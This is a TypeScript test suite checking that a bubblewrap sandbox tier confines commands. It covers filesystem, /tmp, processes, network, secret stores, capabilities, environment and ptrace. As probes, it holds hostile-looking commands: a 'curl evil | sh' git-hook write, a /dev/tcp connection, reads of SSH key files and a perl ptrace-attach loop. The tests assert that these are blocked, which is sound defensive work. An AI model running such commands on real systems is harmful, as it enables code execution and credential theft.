/**
 * Issue 6 acceptance 2: what a bubblewrap sandbox session can and cannot
 * reach. A real daemon with --runtime sandbox, real bwrap, a HOME with planted
 * secret stores, a real TCP listener on the host's loopback.
 */
import assert from 'node:assert/strict';
import { ARCH_INFO, nativeArch } from '../src/tiers/shared/seccomp/arch.js';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { execFileSync } from 'node:child_process';
import { tierWorkspace, WORKSPACE_UID } from './helpers/tiers.js';
import { connect, expectCode } from './helpers/client.js';
import { makeTempDir, startDaemon } from './helpers/daemon.js';
import { useDaemon } from './helpers/fixture.js';
import { procAlive } from './helpers/processes.js';
import { waitFor } from './helpers/wait.js';

/** Skip with the reason, or fail under TRL_REQUIRE_TIERS=1 (CI), when the sandbox tier is not usable here. */
function sandboxProblem(info: any): string | null {
  const t = info.tiers.sandbox;
  return t.available ? null : `sandbox tier unavailable: ${t.detail}`;
}

describe('sandbox tier', () => {
  let home: string;
  let ws: string;
  let skip: string | null = null;
  const mark = randomBytes(8).toString('hex');

  const { d, c } = useDaemon(() => {
    home = makeTempDir('/tmp/trl-sbhome-');
    fs.chmodSync(home, 0o755); // readable by the user the sandbox's commands run as
    fs.mkdirSync(path.join(home, '.ssh'), { mode: 0o700 });
    fs.writeFileSync(path.join(home, '.ssh', 'id_ed25519'), `PRIVATE-KEY-${mark}\n`, { mode: 0o600 });
    fs.mkdirSync(path.join(home, '.aws'));
    fs.writeFileSync(path.join(home, '.aws', 'credentials'), `aws_secret_access_key=${mark}\n`);
    fs.writeFileSync(path.join(home, '.netrc'), `machine x password ${mark}\n`);
    fs.writeFileSync(path.join(home, 'notes.txt'), 'readable\n');
    ws = tierWorkspace('trl-sbws-');
    fs.mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(ws, '.bashrc'), '# rc\n');
    if (process.getuid?.() === 0) execFileSync('chown', ['-R', `${WORKSPACE_UID}:${WORKSPACE_UID}`, ws]);
    return { flags: ['--tiers', 'host,sandbox', '--runtime', 'sandbox', '--default-working-dir', ws], env: { HOME: home } };
  });
  before(async () => {
    skip = sandboxProblem(await c.call('system.info', {}));
    if (skip && process.env.TRL_REQUIRE_TIERS === '1') throw new Error(`${skip} (TRL_REQUIRE_TIERS=1)`);
    if (skip) console.log(`# skipping sandbox tests: ${skip}`);
  });
  after(() => {
    fs.rmSync(home, { recursive: true, force: true });
    fs.rmSync(ws, { recursive: true, force: true });
  });

  const run = async (session_id: string, command: string) => c.call('exec.run', { session_id, command, timeout_s: 20 });
  const session = async (extra: Record<string, unknown> = {}) => (await c.call('session.create', { working_dir: ws, ...extra })).session_id;

  it('reports the tier and its isolation', async (t) => {
    if (skip) return t.skip(skip);
    const s = await c.call('session.create', { working_dir: ws });
    assert.equal(s.runtime, 'sandbox');
    assert.equal(s.isolation.isolated, true);
    assert.equal(s.isolation.network, false);
    assert.match(s.isolation.detail.sandbox_pid ?? '', /^\d+$/);
    const info: any = await c.call('system.info', {});
    assert.equal(info.default_runtime, 'sandbox');
    assert.equal(info.tiers.sandbox.isolated, true);
    assert.ok(info.tiers.sandbox.enforcement);
    await c.call('session.destroy', { session_id: s.session_id });
  });

  it('can write the workspace and nothing outside it', async (t) => {
    if (skip) return t.skip(skip);
    const sid = await session();
    const inWs = await run(sid, `echo made > inside-${mark}`);
    assert.equal(inWs.exit_code, 0, inWs.stderr);
    assert.equal(fs.readFileSync(path.join(ws, `inside-${mark}`), 'utf8'), 'made\n');
    const targets = [`/usr/trl-${mark}`, `/etc/trl-${mark}`, `${home}/trl-${mark}`, `/opt/trl-${mark}`];
    for (const target of targets) {
      const r = await run(sid, `echo x > ${target}`);
      assert.notEqual(r.exit_code, 0, `writing ${target} must fail`);
      assert.match(r.stderr, /Read-only file system|Permission denied|No such file or directory/);
      assert.ok(!fs.existsSync(target), `${target} must not exist on the host`);
    }
    await c.call('session.destroy', { session_id: sid });
  });

  it('keeps a private /tmp between the commands of one session, apart from the host /tmp', async (t) => {
    if (skip) return t.skip(skip);
    const hostOnly = path.join('/tmp', `trl-host-only-${mark}`);
    fs.writeFileSync(hostOnly, 'host\n');
    try {
      const a = await session();
      const b = await session();
      assert.equal((await run(a, `echo kept > /tmp/sb-${mark}`)).exit_code, 0);
      const again = await run(a, `cat /tmp/sb-${mark}`);
      assert.equal(again.stdout, 'kept\n', again.stderr);
      assert.ok(!fs.existsSync(`/tmp/sb-${mark}`), 'not written to the host /tmp');
      assert.notEqual((await run(b, `cat /tmp/sb-${mark}`)).exit_code, 0, 'another session has its own /tmp');
      assert.notEqual((await run(a, `cat ${hostOnly}`)).exit_code, 0, "the host's /tmp is not visible");
      await c.call('session.destroy', { session_id: a });
      await c.call('session.destroy', { session_id: b });
    } finally {
      fs.rmSync(hostOnly, { force: true });
    }
  });

  it("cannot see the host's processes, and keeps its background processes between commands", async (t) => {
    if (skip) return t.skip(skip);
    const sid = await session();
    const r = await run(sid, `ls /proc | grep -c '^[0-9]'; kill -0 ${d.pid} 2>/dev/null && echo sees-daemon; test -e /proc/${process.pid} && echo sees-test || true`);
    assert.equal(r.exit_code, 0, r.stderr);
    assert.ok(!r.stdout.includes('sees-daemon') && !r.stdout.includes('sees-test'), r.stdout);
    assert.ok(Number(r.stdout.split('\n')[0]) < 10, `only the sandbox's own processes: ${r.stdout}`);
    await run(sid, 'sleep 77 >/dev/null 2>&1 &');
    const ps = await run(sid, "ps -eo args | grep -c '^sleep 77'");
    assert.equal(ps.stdout.trim(), '1', 'the background sleep survived into the next command');
    const info = await c.call('session.info', { session_id: sid });
    const sandboxPid = Number(info.isolation.detail.sandbox_pid);
    await c.call('session.destroy', { session_id: sid });
    assert.ok(await waitFor(() => !procAlive(sandboxPid)), 'the sandbox is gone after session.destroy');
  });

  it('has no network unless asked: a host loopback listener is unreachable, then reachable with network: true', async (t) => {
    if (skip) return t.skip(skip);
    const server = net.createServer((s) => s.end('hello-from-host\n'));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const probe = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -n1 <&3`;
      const closed = await session({ shell: '/bin/bash' });
      const r1 = await run(closed, probe);
      assert.notEqual(r1.exit_code, 0, `must not connect: ${r1.stdout}`);
      assert.ok(!r1.stdout.includes('hello-from-host'));
      const open = await session({ shell: '/bin/bash', network: true });
      const r2 = await run(open, probe);
      assert.equal(r2.exit_code, 0, r2.stderr);
      assert.equal(r2.stdout, 'hello-from-host\n');
      assert.equal((await c.call('session.info', { session_id: open })).isolation.network, true);
      await c.call('session.destroy', { session_id: closed });
      await c.call('session.destroy', { session_id: open });
    } finally {
      server.close();
    }
  });

  it("hides the daemon user's secret stores; the rest of home reads", async (t) => {
    if (skip) return t.skip(skip);
    // Commands of a root daemon run as the workspace's owner, with HOME in the sandbox's /tmp: look at the daemon's home by name.
    const sid = await session({ env: { HOME: home } });
    const r = await run(sid, 'ls -A ~/.ssh | wc -l; ls -A ~/.aws | wc -l; wc -c < ~/.netrc; cat ~/notes.txt; cat ~/.ssh/id_ed25519 2>&1; echo $HOME');
    assert.equal(r.exit_code, 0, r.stderr);
    const lines = r.stdout.split('\n');
    assert.deepEqual(
      lines.slice(0, 4).map((l) => l.trim()),
      ['0', '0', '0', 'readable'],
    );
    assert.ok(!r.stdout.includes(mark), 'no planted secret reads through');
    assert.equal(lines[5], home);
    await c.call('session.destroy', { session_id: sid });
  });

  it("keeps the workspace's .git/hooks and shell rc files read-only", async (t) => {
    if (skip) return t.skip(skip);
    const sid = await session();
    const hook = await run(sid, 'echo "curl evil | sh" > .git/hooks/pre-commit');
    assert.notEqual(hook.exit_code, 0);
    const rc = await run(sid, 'echo "alias ls=evil" >> .bashrc');
    assert.notEqual(rc.exit_code, 0);
    assert.equal(fs.readFileSync(path.join(ws, '.bashrc'), 'utf8'), '# rc\n');
    assert.ok(!fs.existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')));
    assert.equal((await run(sid, 'echo ok > .git/other')).exit_code, 0, 'the rest of .git stays writable');
    await c.call('session.destroy', { session_id: sid });
  });

  it('runs commands with no capabilities, no new privileges, and without the daemon socket or /run', async (t) => {
    if (skip) return t.skip(skip);
    const sid = await session();
    const r = await run(sid, `grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; test -e ${d.socketPath} && echo sees-socket; ls -A /run | wc -l`);
    assert.equal(r.exit_code, 0, r.stderr);
    assert.match(r.stdout, /CapEff:\s+0+\n/);
    assert.match(r.stdout, /CapBnd:\s+0+\n/);
    assert.match(r.stdout, /NoNewPrivs:\s+1\n/);
    assert.ok(!r.stdout.includes('sees-socket'));
    assert.equal(r.stdout.trim().split('\n').pop(), '0', '/run is empty');
    await c.call('session.destroy', { session_id: sid });
  });

  it("does not pass the daemon's own environment in, only what a shell needs", async (t) => {
    if (skip) return t.skip(skip);
    const sid = await session({ env: { MINE: 'yes' } });
    const r = await run(sid, 'env');
    assert.equal(r.exit_code, 0);
    assert.match(r.stdout, /^MINE=yes$/m);
    assert.match(r.stdout, /^PATH=/m);
    assert.ok(!/^NODE_|^npm_/m.test(r.stdout), 'npm/node variables of the daemon stay outside');
    await c.call('session.destroy', { session_id: sid });
  });

  it('refuses / as the workspace of a sandbox', async (t) => {
    if (skip) return t.skip(skip);
    await expectCode(c, 'session.create', { working_dir: '/', workspace: '/' }, 'INVALID_PARAMS');
  });
});

describe('sandbox tier and the daemon', () => {
  it('a sandbox dies with a SIGKILLed daemon', async (t) => {
    const ws = tierWorkspace('trl-sbws-');
    const d = await startDaemon({ flags: ['--tiers', 'host,sandbox', '--runtime', 'sandbox', '--default-working-dir', ws] });
    const c = await connect(d);
    try {
      const problem = sandboxProblem(await c.call('system.info', {}));
      if (problem) {
        if (process.env.TRL_REQUIRE_TIERS === '1') assert.fail(problem);
        return t.skip(problem);
      }
      const s = await c.call('session.create', { working_dir: ws });
      const pid = Number(s.isolation.detail.sandbox_pid);
      await c.call('exec.start', { session_id: s.session_id, command: 'sleep 300' });
      assert.ok(procAlive(pid));
      process.kill(d.pid, 'SIGKILL');
      await d.exited;
      assert.ok(await waitFor(() => !procAlive(pid)), 'sandbox pid 1 is gone');
    } finally {
      c.close();
      await d.dispose();
      fs.rmSync(ws, { recursive: true, force: true });
    }
  });

  it('works for a daemon run as an ordinary user (bubblewrap makes a user namespace)', async (t) => {
    if (process.getuid?.() !== 0) return t.skip('needs root to start the daemon as another user');
    const ws = makeTempDir('/tmp/trl-sbws-');
    fs.chownSync(ws, 65534, 65534);
    const home = makeTempDir('/tmp/trl-sbhome-');
    fs.chownSync(home, 65534, 65534);
    const d = await startDaemon({ uid: 65534, allowRoot: false, flags: ['--tiers', 'host,sandbox', '--runtime', 'sandbox', '--default-working-dir', ws], env: { HOME: home } });
    try {
      const c = await connect(d);
      const problem = sandboxProblem(await c.call('system.info', {}));
      if (problem) {
        c.close();
        if (process.env.TRL_REQUIRE_TIERS === '1') assert.fail(problem);
        return t.skip(problem);
      }
      const s = await c.call('session.create', { working_dir: ws });
      const run = (command: string) => c.call('exec.run', { session_id: s.session_id, command, timeout_s: 20 });
      const r = await run("id -u; echo a > f; cat f; echo t > /tmp/x; grep -E '^CapEff' /proc/self/status; ls /proc | grep -c '^[0-9]'");
      assert.equal(r.exit_code, 0, r.stderr);
      const [uid, a, cap, procs] = r.stdout.trim().split('\n');
      assert.equal(uid, '65534');
      assert.equal(a, 'a');
      assert.match(cap!, /CapEff:\s+0+$/);
      assert.ok(Number(procs) < 10);
      assert.equal((await run('cat /tmp/x')).stdout, 't\n', '/tmp persists');
      assert.notEqual((await run('echo x > /etc/x')).exit_code, 0);
      assert.equal((await run('echo e > /dev/stderr')).stderr, 'e\n', '/dev/stderr reopens the real pipe');
      // no memory cgroup here: tmpfs space is the memory limit's way around, so none is uncapped
      assert.notEqual((await run('echo x > /dev/x')).exit_code, 0, '/dev is writable');
      const shm = await run("echo s > /dev/shm/s && cat /dev/shm/s && df -k /dev/shm | awk 'NR == 2 { print $2 }'");
      assert.equal(shm.exit_code, 0, shm.stderr);
      const [content, sizeKiB] = shm.stdout.trim().split('\n');
      assert.equal(content, 's', '/dev/shm is usable');
      assert.ok(Number(sizeKiB) > 0 && Number(sizeKiB) <= 1024 * 1024, `/dev/shm is ${sizeKiB} KiB, more than the 1 GiB cap of /tmp`);
      assert.equal((await run('echo n > /dev/null && head -c 4 /dev/zero | wc -c')).stdout.trim(), '4', '/dev/null and /dev/zero still work');
      // Every process a command can see runs the seccomp filter, or cannot be attached to: the sandbox's pid 1 (no
      // filter, and the commands' own user here) is not dumpable. It was, and so was the `sleep` beside it: a command
      // could ptrace either and have it make the system calls the filter refuses. (Attaching to a filtered process
      // gains nothing: what it is made to call still goes through its filter.)
      const ptrace = ARCH_INFO[nativeArch()!].syscalls.ptrace!;
      const attach = await run(
        `for s in /proc/[0-9]*/status; do p=\${s#/proc/}; p=\${p%/status}; grep -q '^Seccomp:[[:space:]]*2' "$s" 2>/dev/null || echo "$p"; done | ` +
          `perl -ne 'chomp; next if $_ == $$ || $_ == getppid(); my $r = syscall(${ptrace}, 16, $_, 0, 0); print "$_ ", ($r == 0 ? "attached" : "refused"), "\\n"'; ` +
          `if perl -e 'open(my $f, "+<", "/proc/1/mem") or exit 1'; then echo 'mem of pid 1 is open'; fi`,
      );
      assert.equal(attach.exit_code, 0, attach.stderr);
      assert.match(attach.stdout, /^1 refused$/m, `pid 1 of the sandbox:\n${attach.stdout}`);
      assert.doesNotMatch(attach.stdout, /attached|mem of pid 1 is open/, `a command could attach to an unfiltered process of the sandbox:\n${attach.stdout}`);
      await c.call('session.destroy', { session_id: s.session_id });
      c.close();
    } finally {
      await d.dispose();
      fs.rmSync(ws, { recursive: true, force: true });
      fs.rmSync(home, { recursive: true, force: true });
    }
  });

  it('a daemon without the sandbox tier answers RUNTIME_UNAVAILABLE for it', async () => {
    const d = await startDaemon();
    const c = await connect(d);
    try {
      const e = await expectCode(c, 'session.create', { runtime: 'sandbox' }, 'RUNTIME_UNAVAILABLE');
      assert.match(e.message, /--tiers/);
    } finally {
      c.close();
      await d.shutdownClean();
    }
  });
});
